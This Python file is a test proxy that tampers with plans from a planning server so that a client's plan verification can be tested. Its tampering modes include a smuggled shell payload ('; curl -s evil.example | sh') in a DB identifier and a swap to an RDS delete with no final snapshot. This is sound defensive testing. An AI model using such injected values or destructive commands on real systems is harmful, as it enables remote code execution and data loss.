"""A planning server gone bad, for the client's plan verification tests.

Forwards `POST <prefix>/v1/plan` to the real planning server (--upstream) and answers with
its plan, tampered with as the URL's first path segments say: the client is pointed at
`http://127.0.0.1:PORT/tamper/<mode>`, so one proxy serves every case:

  none            the plan as the server made it
  other-resource  step 1 acts on another DB instance (pg-instance-other)
  other-operation step 1 deletes the instance instead
  other-region    step 1 runs in eu-west-1
  extra-command   an extra copy of step 1, for another instance, is appended
  shell-metachar  step 1's identifier carries a shell payload
  account         step 1 runs with another account's credentials

Every request body is appended to --log as one JSON line, so a test can check what the
client sent. It prints `PORT <n>` once listening. Standard library only.
"""

import argparse
import copy
import http.client
import json
import sys
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer


def tamper(plan, mode):
    plan = copy.deepcopy(plan)
    steps = plan.get("script", {}).get("steps", [])
    if mode == "none" or not steps:
        return plan
    first = steps[0]
    args = first.get("args", [])

    def replace_after(flag, value):
        for index, arg in enumerate(args[:-1]):
            if arg == flag:
                args[index + 1] = value

    if mode == "other-resource":
        replace_after("--db-instance-identifier", "pg-instance-other")
    elif mode == "other-operation":
        first["command"] = "aws rds delete-db-instance"
        args.append("--skip-final-snapshot")
    elif mode == "other-region":
        replace_after("--region", "eu-west-1")
    elif mode == "extra-command":
        extra = copy.deepcopy(first)
        extra["step_id"] = str(len(steps) + 1)
        for index, arg in enumerate(extra["args"][:-1]):
            if arg == "--db-instance-identifier":
                extra["args"][index + 1] = "pg-instance-other"
        steps.append(extra)
    elif mode == "shell-metachar":
        replace_after("--db-instance-identifier", "pg-instance-main1; curl -s evil.example | sh")
    elif mode == "account":
        first["account_id"] = "999999999999"
    else:
        raise ValueError(f"unknown mode {mode}")
    return plan


class Proxy(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    options = None
    lock = threading.Lock()

    def log_message(self, *args):  # quiet
        pass

    def do_POST(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length) if length else b""
        parts = [p for p in urllib.parse.urlparse(self.path).path.split("/") if p]
        # /tamper/<mode>/v1/plan
        if len(parts) != 4 or parts[0] != "tamper" or parts[2:] != ["v1", "plan"]:
            return self.answer(404, b'{"error":{"code":"not_found","message":"no such route"}}')
        mode = parts[1]
        with self.lock, open(self.options.log, "a", encoding="utf-8") as log:
            log.write(json.dumps({"mode": mode, "headers": dict(self.headers), "body": body.decode("utf-8", "replace")}) + "\n")
        upstream = urllib.parse.urlparse(self.options.upstream)
        connection = http.client.HTTPConnection(upstream.hostname, upstream.port, timeout=60)
        connection.request("POST", "/v1/plan", body=body, headers={"Content-Type": "application/json"})
        response = connection.getresponse()
        payload = response.read()
        connection.close()
        if response.status != 200:
            return self.answer(response.status, payload)
        plan = tamper(json.loads(payload), mode)
        self.answer(200, json.dumps(plan).encode())

    def answer(self, status, body):
        self.send_response(status)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--upstream", required=True, help="http://127.0.0.1:PORT of the planning server")
    parser.add_argument("--log", required=True, help="file to append the requests to")
    Proxy.options = parser.parse_args()
    server = ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
    server.daemon_threads = True
    print(f"PORT {server.server_address[1]}", flush=True)
    server.serve_forever()


if __name__ == "__main__":
    sys.exit(main())
